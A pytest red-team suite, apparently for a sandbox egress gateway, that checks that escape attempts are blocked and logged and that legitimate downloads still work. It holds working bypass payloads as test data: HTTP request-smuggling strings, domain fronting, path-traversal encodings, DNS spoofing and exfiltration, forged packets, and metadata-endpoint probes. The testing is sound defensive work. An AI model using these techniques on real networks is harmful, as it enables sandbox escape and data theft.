"""Egress attempts from root inside sandboxes of both drivers, against the
upstream world of conftest.py (resolver, HTTP/HTTPS/TCP servers for
allowed.test, forbidden.test and a CDN address serving front.test and
hidden.test, allowed names whose upstream answer is private) and a
listener of the test's own on every host address.

Each attempt is a row of the table; it is held when what it aimed at saw
nothing of it (the world's logs, its sniffer, the host listener, the
neighbour sandbox) and the guest got nothing back from it, and where it
reached a gateway, that gateway logged a deny (GET .../egress). Every
attempt carries a marker ("rtmark<n>") in its names and paths, so the
world's logs tell whether any of it arrived. The allowed cases (HTTPS
with the guest's trust store, package-style downloads checked by hash,
TCP pass-through where the policy allows it) must work.

The attackers' template has busybox only: tests/redteam/probe.c
(static, with OpenSSL) makes the attempts busybox cannot. The allowed
cases also run real clients (curl, python urllib, node https, npm,
apt-get) in the CLIENTS template (tests/integration/host_clients.py).
busybox wget cannot do HTTPS in minimal: Debian's busybox hands TLS to an
`openssl s_client` it runs, and minimal has no openssl (it works where
there is one)."""
import hashlib
import itertools
import os
import re
import shlex
import socket
import subprocess
import threading
import time

import pytest

from conftest import (CDN, FORBIDDEN, RESOLVER, WORLD_HOST, it)
import host_clients

pytestmark = pytest.mark.skipif(os.geteuid() != 0,
                                reason="network slots need root")

ALLOW = ["allowed.test", "front.test", "xn--bcher-kva.test",
         "private.test", "loop.test", "meta.test", "paths.test"]
TRUST = "/etc/ssl/certs/ca-certificates.crt"  # the guest's trust store
PROBE = "/tmp/probe"
SYNTHETIC = re.compile(r"answer (198\.1[89]\.\d+\.\d+)")
_marks = itertools.count(1)


def mark():
    return "rtmark%d" % next(_marks)


def crlf(text):
    """A request for probe's command line (\\r\\n escapes)."""
    return text.replace("\r", "\\r").replace("\n", "\\n")


def get(host, path, extra=""):
    return "GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path, host, extra)


class Seen:
    """What the upstream world and the host listener have seen so far."""

    def __init__(self, world, host):
        self.world, self.host, self.events = world, host, []

    def collect(self):
        for lines in self.world["log"].values():
            self.events += lines.drain(0.05)
        self.events += self.world["sniff"].drain(0.05)
        self.events += self.host.take()
        return self.events

    def of(self, marker):
        """Every event of the world or the host that carries marker."""
        return [e for e in self.collect() if marker in repr(e)]

    def foreign(self, since):
        """Sniffed frames (from anything but the host's end) since."""
        return [e for e in self.collect()[since:] if "foreign" in e]


class HostListener:
    """TCP and UDP on every host address (0.0.0.0) on one port: TCP
    answers a secret, both report what arrives."""

    def __init__(self):
        self.secret = "HOSTSECRET-%d" % os.getpid()
        self.tcp = socket.socket()
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.got, self.lock = [], threading.Lock()
        threading.Thread(target=self._tcp, daemon=True).start()
        threading.Thread(target=self._udp, daemon=True).start()

    def _tcp(self):
        while True:
            c, peer = self.tcp.accept()
            with self.lock:
                self.got.append({"host_tcp": peer[0]})
            try:
                c.sendall(self.secret.encode() + b"\n")
                c.settimeout(1)
                data = c.recv(4096)
                with self.lock:
                    self.got.append({"host_tcp_data": data.decode(
                        "latin-1")})
            except OSError:
                pass
            c.close()

    def _udp(self):
        while True:
            data, peer = self.udp.recvfrom(65536)
            with self.lock:
                self.got.append({"host_udp": peer[0],
                                 "data": data.decode("latin-1")})

    def take(self):
        with self.lock:
            out, self.got = self.got, []
        return out


def host_addresses():
    out = subprocess.run(["ip", "-4", "-o", "addr", "show"],
                         capture_output=True, text=True).stdout
    return sorted({m for m in re.findall(r"inet (\d+\.\d+\.\d+\.\d+)", out)
                   if not m.startswith("127.")})


@pytest.fixture(scope="module")
def seen(world):
    return Seen(world, HostListener())


class Box:
    """One sandbox, with what the attempts need to know about it."""

    def __init__(self, rt, sb, driver):
        self.rt, self.id, self.driver = rt, sb["id"], driver
        _, conf = rt.sh(self.id, "cat /etc/resolv.conf")
        m = re.search(r"nameserver (\S+)", conf)
        self.gateway = m.group(1) if m else None
        _, addr = rt.sh(self.id, "ip -4 addr show dev eth0 2>&1")
        m = re.search(r"inet (\d+\.\d+\.\d+\.\d+)", addr)
        self.addr = m.group(1) if m else None

    def sh(self, script, timeout_s=60):
        r = it.exec_json(self.rt.api, self.id, ["sh", "-c", script],
                         timeout=timeout_s)
        return (r["stdout"] + r["stderr"]).strip()

    def probe(self, *args):
        return self.sh(" ".join([PROBE] + [shlex.quote(a) for a in args]))

    def synthetic(self, name):
        """The address the gateway's DNS gives name, or None."""
        m = SYNTHETIC.search(self.probe("dns", self.gateway, "53", "udp",
                                        name))
        return m.group(1) if m else None

    def egress(self, pred, timeout=10):
        """Logged decisions matching pred (waiting for the ingest)."""
        deadline = time.monotonic() + timeout
        while True:
            r = self.rt.api.get(
                f"{self.rt.api.base}/v1/sandboxes/{self.id}/egress",
                params={"limit": 1000}, timeout=it.TIMEOUT)
            assert r.status_code == 200, r.text
            found = [e for e in r.json()["egress"] if pred(e)]
            if found or time.monotonic() > deadline:
                return found
            time.sleep(0.25)

    def denied(self, name, port=None, timeout=10):
        """The newest deny about name (and port), as text, or None."""
        recs = self.egress(lambda e: not e["allow"] and e["name"] == name
                           and (port is None or e["port"] == port),
                           timeout)
        if not recs:
            return None
        e = recs[0]
        return "deny %s %s:%s (%s)" % (e["protocol"], e["name"], e["port"],
                                       e["reason"])


@pytest.fixture(scope="module", params=it.DRIVERS)
def boxes(request, rt, api, info, probe):
    """Per driver: the attacker (allowlist mode, ALLOW), a sandbox of
    mode none, and a neighbour (ns) serving a secret over HTTP."""
    drv = request.param
    if drv not in it.usable_drivers(info):
        pytest.skip(f"driver {drv!r} is not usable on this host: {info!r}")
    made = it.Sandboxes(api, drv)
    ns = it.Sandboxes(api, "ns")
    try:
        attacker = made.create(network={"mode": "allowlist",
                                        "allow": ALLOW}, timeout=1800)
        none = made.create(network={"mode": "none"}, timeout=1800)
        neighbour = ns.create(network={"mode": "allowlist",
                                       "allow": ["allowed.test"]},
                              timeout=1800)
        for sb in (attacker, none):
            rt.put(sb["id"], PROBE, probe)
        rt.sh(neighbour["id"], "mkdir -p /tmp/www && echo NEIGHBOURSECRET "
                               ">/tmp/www/s.txt && "
                               "httpd -p 8000 -h /tmp/www")
        yield {"driver": drv, "a": Box(rt, attacker, drv),
               "none": Box(rt, none, drv), "nb": Box(rt, neighbour, "ns")}
    finally:
        made.cleanup()
        ns.cleanup()


DROPPED = ("connect: Connection timed out", "Network is unreachable")


def stopped(box, out, name, port):
    """How a connection to an address the gateway did not give out was
    stopped: dropped by the slot's rules (it never reached the gateway),
    or refused by the gateway, which logged a deny; None when neither."""
    if any(d in out for d in DROPPED):
        return "dropped by the slot's rules"
    return box.denied(name, port)


def held(rt, boxes, attempt, expected, result, escaped, detail=""):
    ok = not rt.record(attempt, boxes["driver"], expected, result, escaped)
    assert ok, detail or result


# ------------------------------------------------------- allowed cases


def test_allowed_https_and_downloads(rt, boxes):
    """What must work: HTTPS verified against the guest's trust store,
    busybox wget over HTTPS and HTTP, an apt-style download (HTTP, file
    checked by hash), a pip/npm-style one (index then package on one
    kept-alive verified TLS connection, package checked by hash), TCP
    pass-through where the policy allows it."""
    a, drv = boxes["a"], boxes["driver"]
    s = a.synthetic("allowed.test")
    rt.works("DNS: allowed.test gets a synthetic address", drv,
             str(s), s is not None)
    assert s, "allowed.test does not resolve"
    out = a.probe("tls", s, "443", "allowed.test", TRUST,
                  crlf(get("allowed.test", "/echo")))
    ok = "handshake ok" in out and "statuses: 200" in out and \
        "hello allowed.test /echo" in out
    rt.works("HTTPS to allowed.test, verified by the guest's trust store",
             drv, out.replace("\n", "; ")[:100], ok)
    assert ok, out
    out = a.sh("wget -q -O - http://allowed.test/echo 2>&1")
    ok = out == "hello allowed.test /echo"
    rt.works("busybox wget http://allowed.test/echo", drv, out[:100], ok)
    assert ok, out
    n = 1 << 20
    want = hashlib.sha256(b"x" * n).hexdigest()
    out = a.sh("wget -q -O /tmp/pkg.deb http://allowed.test/big/%d && "
               "sha256sum /tmp/pkg.deb" % n)
    ok = out.startswith(want)
    rt.works("apt-style: 1 MiB .deb over HTTP, sha256 checked", drv,
             out[:100], ok)
    assert ok, out
    n = 3 << 20
    want = hashlib.sha256(b"x" * n).hexdigest()
    out = a.probe("tls", s, "443", "allowed.test", TRUST, crlf(
        get("allowed.test", "/big/%d" % n, "User-Agent: pip/24.0\r\n") +
        get("allowed.test", "/simple/pkg/", "User-Agent: pip/24.0\r\n"
            "Connection: close\r\n")))
    ok = "statuses: 200 200" in out and want in out
    rt.works("pip/npm-style: package + index on one kept-alive verified "
             "TLS connection, sha256 checked", drv,
             out.replace("\n", "; ")[:100], ok)
    assert ok, out
    out = a.probe("tcp", s, "7000", "ping-7000")
    ok = "reply 9 bytes: ping-7000" in out
    rt.works("TCP pass-through to allowed.test:7000 (policy allows)", drv,
             out[:100], ok)
    assert ok, out
    out = a.probe("tls", s, "443", "allowed.test", TRUST,
                  crlf(get("ALLOWED.Test.", "/echo")))
    ok = "statuses: 200" in out
    rt.works("Host in upper case with a trailing dot is the same name",
             drv, out.replace("\n", "; ")[:100], ok)
    assert ok, out


@pytest.fixture(scope="module")
def clients(api):
    """The CLIENTS template (host's curl, python3, node, npm, apt-get)."""
    name = "rt-clients-%d" % os.getpid()
    parts = {"name": (None, name),
             "airlockfile": (None, host_clients.AIRLOCKFILE),
             "context": ("context.tar", host_clients.context_tar(),
                         "application/x-tar")}
    r = api.post(f"{api.base}/v1/templates", files=parts, timeout=(5, 900))
    assert r.status_code == 202, r.text
    log = api.get(f"{api.base}/v1/templates/builds/{r.json()['build_id']}"
                  "/logs", headers={"Accept": "text/event-stream"},
                  stream=True, timeout=(5, 1200))
    status = None
    for e in it.sse_events(log):
        if e.name == "status":
            status = e.data
            break
    log.close()
    assert status and status["status"] == "succeeded", status
    yield name
    api.delete(f"{api.base}/v1/templates/{name}", timeout=it.TIMEOUT)


@pytest.fixture(scope="module")
def client_box(api, boxes, clients):
    """A sandbox of CLIENTS on the driver of boxes, allowed allowed.test."""
    made = it.Sandboxes(api, boxes["driver"])
    sb = made.create(template=clients, timeout=1800,
                     network={"mode": "allowlist", "allow": ["allowed.test"]})
    yield sb["id"]
    made.cleanup()


@pytest.mark.parametrize(
    "what,cmd,want", host_clients.client_cases("allowed.test", "/npm"),
    ids=[c[0] for c in host_clients.client_cases("allowed.test", "/npm")])
def test_allowed_real_clients(rt, boxes, client_box, what, cmd, want):
    """Real clients (host_clients.py) download over HTTPS through the
    gateway, verified by the template's trust store (and for node by
    NODE_EXTRA_CA_CERTS)."""
    r = it.exec_json(rt.api, client_box, ["sh", "-c", cmd], timeout=300,
                     http_timeout=(5, 330))
    out = (r["stdout"] + r["stderr"]).strip()
    ok = r["exit_code"] == 0 and want in out
    shown = r["stdout"].strip() if want in r["stdout"] else out
    rt.works(f"{what} over HTTPS from allowed.test (clients template)",
             boxes["driver"], shown.replace("\n", "; ")[-100:], ok)
    assert ok, out


# ------------------------------------------------------------ attempts


def test_hosts_file_and_spoofed_dns(rt, boxes, seen):
    """/etc/hosts, then a resolver of the guest's own (busybox dnsd on
    its loopback, named by /etc/resolv.conf), point allowed.test at
    forbidden.test's address; the client (probe) looks the name up as a
    C library would and connects with SNI and Host allowed.test."""
    a = boxes["a"]
    req = "'GET /%s HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'"
    for what, setup in (
            ("/etc/hosts", f"echo '{FORBIDDEN} allowed.test' >>/etc/hosts"),
            ("spoofed DNS answer (own resolver on loopback)",
             f"{PROBE} dnsd 5353 {FORBIDDEN} 20 & sleep 0.5; "
             "export PROBE_DNS_PORT=5353; "
             "echo 'nameserver 127.0.0.1' >/etc/resolv.conf")):
        m = mark()
        out = a.sh(
            "cp /etc/hosts /tmp/hosts.bak; "
            "cp /etc/resolv.conf /tmp/resolv.bak; " + setup + "; "
            f"{PROBE} tls allowed.test 443 allowed.test {TRUST} "
            + req % m + "; "
            f"{PROBE} tcp allowed.test 80 " + req % (m + "p") + "; "
            "cp /tmp/hosts.bak /etc/hosts; "
            "cp /tmp/resolv.bak /etc/resolv.conf; kill %1 2>/dev/null")
        hit = seen.of(m)
        how = stopped(a, out, FORBIDDEN, 443)
        held(rt, boxes, f"{what}: allowed.test -> forbidden IP, HTTPS and "
             "HTTP", "not reached", "%s; %s" % (
                 out.splitlines()[0][-40:] if out else "", how),
             bool(hit) or "statuses: 200" in out or "reply" in out or
             FORBIDDEN not in out or how is None, (out, hit))


def test_forbidden_ip_with_allowed_sni(rt, boxes, seen):
    a = boxes["a"]
    # The world's addresses, and a public one (TEST-NET-3, routed
    # nowhere) that the slot hands to the gateway.
    for ip in (FORBIDDEN, CDN, RESOLVER, "203.0.113.10"):
        m = mark()
        out = a.probe("tls", ip, "443", "allowed.test", TRUST,
                      crlf(get("allowed.test", "/" + m)))
        hit = seen.of(m)
        how = stopped(a, out, ip, 443)
        held(rt, boxes, f"IP {ip} with SNI allowed.test",
             "not reached", "%s; %s" % (out[-40:], how),
             bool(hit) or "statuses: 200" in out or how is None,
             (out, hit, how))


def test_sni_of_a_forbidden_name_on_an_allowed_address(rt, boxes, seen):
    a = boxes["a"]
    s = a.synthetic("allowed.test")
    m = mark()
    out = a.probe("tls", s, "443", "forbidden.test", TRUST,
                  crlf(get("forbidden.test", "/" + m)))
    hit = seen.of(m)
    log = a.denied("forbidden.test", 443)
    held(rt, boxes, "allowed.test's address with SNI and Host "
         "forbidden.test", "handshake refused; deny logged",
         "%s; %s" % (out[:50], log),
         bool(hit) or "statuses: 200" in out or log is None,
         (out, hit, log))


FRONTING = [
    ("domain fronting: SNI allowed.test, Host forbidden.test",
     "allowed.test", "forbidden.test"),
    ("domain fronting on a CDN: SNI front.test, Host hidden.test",
     "front.test", "hidden.test"),
    ("Host of another allowed name: SNI allowed.test, Host front.test",
     "allowed.test", "front.test"),
    ("Host forbidden.test. (trailing dot, case) under SNI allowed.test",
     "allowed.test", "FORBIDDEN.test."),
    ("homoglyph Host (Cyrillic a) under SNI allowed.test",
     "allowed.test", "\u0430llowed.test"),
    ("Punycode Host of a forbidden name under SNI allowed.test",
     "allowed.test", "xn--frbidden-n4a.test"),
]


@pytest.mark.parametrize("what,sni,host", FRONTING,
                         ids=[f[0] for f in FRONTING])
def test_fronting(rt, boxes, seen, what, sni, host):
    a = boxes["a"]
    s = a.synthetic(sni)
    m = mark()
    out = a.probe("tls", s, "443", sni, TRUST, crlf(get(host, "/" + m)))
    hit = seen.of(m)
    status = re.search(r"statuses: (\d+)", out)
    log = a.egress(lambda e: not e["allow"] and e["protocol"] == "https")
    held(rt, boxes, what, "4xx, closed; deny logged",
         "%s; %s" % (out.splitlines()[1:2], bool(log)),
         bool(hit) or not status or not status.group(1).startswith("4")
         or not log, (out, hit))


def test_punycode_name_is_the_same_name(rt, boxes, seen):
    """bücher.test is allowed as xn--bcher-kva.test: its UTF-8 form in
    Host is not a way around the binding (refused or the same name)."""
    a = boxes["a"]
    s = a.synthetic("xn--bcher-kva.test")
    m = mark()
    out = a.probe("tls", s, "443", "xn--bcher-kva.test", TRUST,
                  crlf(get("b\u00fccher.test", "/" + m)))
    hosts = [e.get("http") for e in seen.of(m)]
    held(rt, boxes, "Host bücher.test (UTF-8) under SNI xn--bcher-kva.test",
         "refused, or the same name upstream",
         "%s; upstream Host %s" % (out.splitlines()[1:2], hosts),
         any(h not in ("xn--bcher-kva.test",) for h in hosts), (out, hosts))
    m = mark()
    out = a.probe("dns", a.gateway, "53", "udp", "XN--FORBIDDEN-%s.test." % m)
    held(rt, boxes, "DNS: upper-case Punycode, trailing dot, forbidden",
         "NXDOMAIN, nothing upstream", out[-40:],
         bool(seen.of(m)) or "answer" in out)


def test_second_host_on_a_kept_alive_connection(rt, boxes, seen):
    a = boxes["a"]
    s = a.synthetic("allowed.test")
    for port, proto in (("443", "https"), ("80", "http")):
        m = mark()
        two = get("allowed.test", "/echo") + get("forbidden.test", "/" + m)
        if proto == "https":
            out = a.probe("tls", s, port, "allowed.test", TRUST, crlf(two))
        else:
            out = a.probe("tcp", s, port, crlf(two))
        hit = seen.of(m)
        bad = "statuses: 200 403 closed" not in out or bool(hit)
        st = re.search(r"statuses:.*", out)
        held(rt, boxes, f"{proto}: second request for forbidden.test on a "
             "kept-alive connection", "200 then 4xx, closed",
             st.group(0) if st else out[:80], bad, (out, hit))


SMUGGLE = [
    ("TE + CL (request smuggled in the body)",
     "POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n"
     "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get("forbidden.test",
                                                      "/{m}")),
    ("duplicate Content-Length",
     "POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n"
     "Content-Length: 44\r\n\r\n" + get("forbidden.test", "/{m}")),
    ("leading CRLF before a fronted request",
     "\r\n" + get("forbidden.test", "/{m}")),
    ("absolute-form target naming forbidden.test",
     "GET https://forbidden.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    ("absolute-form http:// with userinfo",
     "GET http://allowed.test@forbidden.test/{m} HTTP/1.1\r\n"
     "Host: allowed.test\r\n\r\n"),
    ("chunk size overflow then a request",
     "POST /echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: "
     "chunked\r\n\r\nffffffffffffffff1\r\n\r\n" + get("forbidden.test",
                                                     "/{m}")),
    ("CONNECT forbidden.test:443 inside the stream",
     "CONNECT forbidden.test:443 HTTP/1.1\r\nHost: forbidden.test:443"
     "\r\n\r\n" + get("forbidden.test", "/{m}")),
    ("Upgrade: h2c",
     "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, "
     "HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__"
     "\r\n\r\n"),
    ("Upgrade: websocket to forbidden.test",
     "GET /{m} HTTP/1.1\r\nHost: forbidden.test\r\nConnection: Upgrade\r\n"
     "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"),
    ("HTTP/2 preface (prior knowledge)",
     "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + get("forbidden.test", "/{m}")),
]


@pytest.mark.parametrize("what,payload", SMUGGLE,
                         ids=[s[0] for s in SMUGGLE])
def test_smuggling_and_framing(rt, boxes, seen, what, payload):
    a = boxes["a"]
    s = a.synthetic("allowed.test")
    m = mark()
    out = a.probe("tls", s, "443", "allowed.test", TRUST,
                  crlf(payload.replace("{m}", m)))
    hit = seen.of(m)
    statuses = re.search(r"statuses:([ \d]*)", out)
    codes = statuses.group(1).split() if statuses else []
    # The gateway's own refusal must come back: a connection closed
    # without one is a gateway that died (a crash is a hole too).
    bad = bool(hit) or not codes or codes[0] not in ("400", "403", "405",
                                                     "421", "505")
    held(rt, boxes, "smuggling/framing: " + what, "gateway's 4xx/505, "
         "nothing upstream", out.replace("\n", "; ")[:80], bad, (out, hit))


# The policy lets paths.test serve /allowed/... only (conftest.py). Each
# path either means /forbidden/... once normalised (the policy's 403) or
# is a form servers read differently (the gateway's 400); nothing of it
# reaches the upstream.
PATH_TRICKS = [
    ("dot segments", "/allowed/../forbidden/{m}", "403"),
    ("encoded dots", "/allowed/%2e%2e/forbidden/{m}", "403"),
    ("encoded dots, upper case", "/allowed/%2E%2E/forbidden/{m}", "403"),
    ("half-encoded dots", "/allowed/.%2e/forbidden/{m}", "403"),
    ("double slash", "//forbidden/{m}", "403"),
    ("double slash after the prefix", "/allowed//../forbidden/{m}", "403"),
    ("absolute-form with dot segments",
     "https://paths.test/allowed/./../forbidden/{m}", "403"),
    ("encoded slash", "/allowed/..%2fforbidden/{m}", "400"),
    ("encoded dots and slash", "/allowed/%2e%2e%2fforbidden/{m}", "400"),
    ("encoded backslash", "/allowed/..%5cforbidden/{m}", "400"),
    ("backslash", "/allowed/..\\forbidden/{m}", "400"),
    ("encoded NUL", "/allowed/%00/../../forbidden/{m}", "400"),
    ("overlong UTF-8 dots", "/allowed/%c0%ae%c0%ae/forbidden/{m}", "400"),
    ("Tomcat path parameter", "/allowed/..;/forbidden/{m}", "400"),
    ("double encoding", "/allowed/%252e%252e/forbidden/{m}", "400"),
]


@pytest.mark.parametrize("what,path,status", PATH_TRICKS,
                         ids=[t[0] for t in PATH_TRICKS])
def test_path_tricks_against_a_path_policy(rt, boxes, seen, what, path,
                                           status):
    a = boxes["a"]
    s = a.synthetic("paths.test")
    m = mark()

    def denies():
        # A refused head has no path in the log (it was never judged):
        # its deny is told by count.
        return a.egress(lambda e: not e["allow"] and
                        e["name"] == "paths.test" and e["protocol"] ==
                        "https" and (status == "400" or
                                     m in (e.get("path") or "")),
                        timeout=0)
    before = len(denies())
    out = a.probe("tls", s, "443", "paths.test", TRUST,
                  crlf(get("paths.test", path.replace("{m}", m))))
    hit = seen.of(m)
    st = re.search(r"statuses:([ \d]*)", out)
    codes = st.group(1).split() if st else []
    deadline = time.monotonic() + 10
    while len(denies()) <= before and time.monotonic() < deadline:
        time.sleep(0.25)
    logged = len(denies()) > before
    bad = bool(hit) or codes[:1] != [status] or not logged
    held(rt, boxes, "path trick vs a /allowed/-only policy: " + what,
         f"gateway's {status}, logged, nothing upstream",
         out.replace("\n", "; ")[:80], bad, (out, hit, logged))


def test_path_the_policy_judged_is_the_path_sent(rt, boxes, seen):
    """Within /allowed/, a path with dot segments, encoded unreserved
    characters and doubled slashes is allowed, and the upstream gets the
    normal form the policy judged, not the guest's spelling."""
    a, drv = boxes["a"], boxes["driver"]
    s = a.synthetic("paths.test")
    m = mark()
    out = a.probe("tls", s, "443", "paths.test", TRUST,
                  crlf(get("paths.test",
                           "/allowed/x/..//%7e%2D/./" + m + "?q=/../")))
    want = "/allowed/~-/" + m + "?q=/../"
    got = [e.get("path") for e in seen.of(m) if "http" in e]
    logged = a.egress(lambda e: e["allow"] and e.get("path") == want)
    ok = "statuses: 200" in out and got == [want] and bool(logged)
    rt.works("path normalised within /allowed/: upstream gets what the "
             "policy judged", drv, "%s; upstream %s" % (
                 out.replace("\n", "; ")[:60], got), ok)
    assert ok, (out, got, logged)


def test_dns_to_outside_resolvers(rt, boxes, seen):
    a = boxes["a"]
    for server, port, proto in ((RESOLVER, "53", "udp"),
                                (RESOLVER, "53", "tcp"),
                                (RESOLVER, "853", "tcp"),
                                ("192.0.2.53", "53", "udp"),
                                ("192.0.2.53", "53", "tcp")):
        m = mark()
        out = a.probe("dns", server, port, proto, m + ".allowed.test")
        hit = seen.of(m)
        addr = re.search(r"answer (\S+)", out)
        held(rt, boxes, f"DNS to {server}:{port}/{proto} (marker name)",
             "no answer, nothing upstream", out[-50:],
             bool(hit) or (addr is not None and
                           not SYNTHETIC.search(out)), (out, hit))
    m = mark()
    out = a.probe("tls", RESOLVER, "853", RESOLVER, TRUST, m)
    held(rt, boxes, "DNS over TLS to the resolver (853)", "refused",
         out[-50:], "handshake ok" in out or bool(seen.of(m)))


def test_dns_exfiltration(rt, boxes, seen):
    """A marker in names: in mode none (loopback only) through every
    path, and in allowlist mode through the gateway as names it does not
    allow. The upstream resolver's query log must not show it."""
    none, a = boxes["none"], boxes["a"]
    m = mark()
    out = none.sh(
        f"nslookup {m}.allowed.test 2>&1; "
        f"{PROBE} dns {RESOLVER} 53 udp {m}.a.allowed.test; "
        f"{PROBE} dns {RESOLVER} 53 tcp {m}.b.allowed.test; "
        f"{PROBE} dns {a.gateway} 53 udp {m}.c.allowed.test; "
        "ip -4 addr 2>&1 | grep inet")
    hit = seen.of(m)
    held(rt, boxes, "DNS exfiltration in mode none (resolv.conf, the "
         "resolver, a gateway's address)", "nothing reaches the resolver",
         "%d upstream queries; %s" % (len(hit), out.replace("\n", "; ")[-60:]),
         bool(hit), (out, hit))
    m = mark()
    out = a.sh(f"nslookup {m}.allowed.test 2>&1; nslookup "
               f"{m}.forbidden.test 2>&1; nslookup {m}.example 2>&1")
    hit = seen.of(m)
    log = a.denied(m + ".forbidden.test")
    held(rt, boxes, "DNS exfiltration in allowlist mode (names not "
         "allowed)", "NXDOMAIN, nothing upstream, deny logged",
         "%d upstream queries; %s" % (len(hit), log), bool(hit) or
         log is None, (out, hit))


def test_raw_sockets_and_spoofing(rt, boxes, seen):
    a, nb = boxes["a"], boxes["nb"]
    since = len(seen.collect())
    m = mark()
    out = a.sh(
        f"{PROBE} spoof {WORLD_HOST} {RESOLVER} 53 {m}.a.allowed.test; "
        f"{PROBE} spoof {nb.addr} {a.gateway} 53 {m}.b.allowed.test; "
        f"{PROBE} spoof {a.addr} {RESOLVER} 53 {m}.c.allowed.test; "
        f"{PROBE} ether eth0 02:de:ad:be:ef:01 {a.addr} {a.gateway} "
        f"{m}.d.allowed.test; "
        f"{PROBE} ether eth0 02:de:ad:be:ef:02 {nb.addr} {RESOLVER} "
        f"{m}.e.allowed.test; sleep 1")
    hit = seen.of(m)
    foreign = seen.foreign(since)
    # The gateway must not have taken a forged query as the sandbox's.
    log = a.egress(lambda e: m in e["name"], timeout=3)
    held(rt, boxes, "raw IP and packet sockets: forged source addresses "
         "and MACs (DNS queries to the gateway and the resolver)",
         "dropped before anything answers",
         "; ".join(l.split(":")[0] + ":" + l.split("(")[-1]
                   for l in out.splitlines())[:100],
         bool(hit) or bool(foreign) or bool(log), (out, hit, foreign, log))


def test_ipv6_icmp_quic(rt, boxes, seen):
    a = boxes["a"]
    s = a.synthetic("allowed.test")
    since = len(seen.collect())
    m = mark()
    # vm root owns its kernel: it can give itself IPv6 and routes.
    out = a.sh(
        "ip -6 addr add fd00:5a::2/64 dev eth0 2>&1; "
        "ip -6 route add default dev eth0 2>&1; "
        f"{PROBE} udp fd00:5a::1 53 {m}-v6udp; "
        f"{PROBE} tcp fd00:5a::1 443 {m}-v6tcp; "
        f"{PROBE} udp ff02::1%eth0 53 {m}-v6mc 2>&1; "
        f"ping6 -c 1 -W 2 fe80::1%eth0 2>&1 | tail -2; "
        f"ping -c 1 -W 2 {RESOLVER} 2>&1 | tail -2; "
        f"ping -c 1 -W 2 {WORLD_HOST} 2>&1 | tail -2; "
        f"{PROBE} udp {s} 443 {m}-quic; "
        f"{PROBE} udp {RESOLVER} 443 {m}-quic2")
    hit = seen.of(m)
    foreign = seen.foreign(since)
    held(rt, boxes, "IPv6 (own address and route), ICMP to the world, "
         "QUIC (UDP 443)", "nothing leaves, no reply",
         "%d sniffed; %s" % (len(foreign), out.replace("\n", "; ")[-80:]),
         bool(hit) or bool(foreign) or "reply" in out or
         " 0% packet loss" in out, (out, hit, foreign))


def test_reaching_the_host_gateway_neighbour_metadata(rt, boxes, seen):
    a, nb = boxes["a"], boxes["nb"]
    host = seen.host
    targets = [(ip, str(host.port)) for ip in host_addresses()]
    for ip, port in targets:
        m = mark()
        out = a.probe("tcp", ip, port, m)
        uout = a.probe("udp", ip, port, m)
        hit = seen.of(m) + [e for e in seen.collect() if "host_tcp" in
                            repr(e)]
        how = stopped(a, out, ip, int(port))
        held(rt, boxes, f"the host at {ip}:{port} (TCP, UDP)",
             "nothing arrives", "%s; %s" % (out[-40:], how),
             host.secret in out or host.secret in uout or bool(hit) or
             how is None, (out, uout, hit))
    for port in ("15001", "22", "8080", "53"):
        m = mark()
        out = a.probe("tcp", a.gateway, port, crlf(get("forbidden.test",
                                                       "/" + m)))
        hit = seen.of(m)
        held(rt, boxes, f"the gateway's address, TCP port {port}",
             "no HTTP answer, nothing upstream", out[-50:],
             bool(hit) or "HTTP/1.1 200" in out, (out, hit))
    out = a.probe("udp", a.gateway, "123", mark())
    held(rt, boxes, "the gateway's address, UDP 123", "no reply",
         out[-50:], "reply" in out)
    if nb.addr and nb.id != a.id:
        out = a.probe("tcp", nb.addr, "8000",
                      crlf("GET /s.txt HTTP/1.0\r\n\r\n"))
        how = stopped(a, out, nb.addr, 8000)
        held(rt, boxes, "another sandbox's address (busybox httpd)",
             "not reached", "%s; %s" % (out[-40:], how),
             "NEIGHBOURSECRET" in out or how is None, out)
    m = mark()
    out = a.probe("tcp", "169.254.169.254", "80",
                  crlf(get("169.254.169.254", "/latest/meta-data/" + m)))
    how = stopped(a, out, "169.254.169.254", 80)
    held(rt, boxes, "metadata address 169.254.169.254:80", "not reached",
         "%s; %s" % (out[-40:], how),
         "HTTP/1.1 200" in out or bool(seen.of(m)) or how is None, out)


def test_allowed_names_with_private_upstreams(rt, boxes, seen):
    a = boxes["a"]
    for name in ("private.test", "loop.test", "meta.test"):
        s = a.synthetic(name)
        m = mark()
        out = a.probe("tls", s, "443", name, TRUST, crlf(get(name, "/" + m)))
        log = a.denied(name, 443)
        held(rt, boxes, f"allowed {name} whose upstream is private "
             f"({name.split('.')[0]})", "502, not dialled; deny logged",
             "%s; %s" % (out.splitlines()[1:2], log),
             "statuses: 200" in out or bool(seen.of(m)) or log is None,
             (out, log))


def test_pass_through_only_where_allowed(rt, boxes, seen):
    a = boxes["a"]
    s = a.synthetic("allowed.test")
    m = mark()
    out = a.probe("tcp", s, "7001", m)
    log = a.denied("allowed.test", 7001)
    held(rt, boxes, "TCP to allowed.test:7001 (no policy port)",
         "closed; deny logged", "%s; %s" % (out[-40:], log),
         m in out or log is None, out)
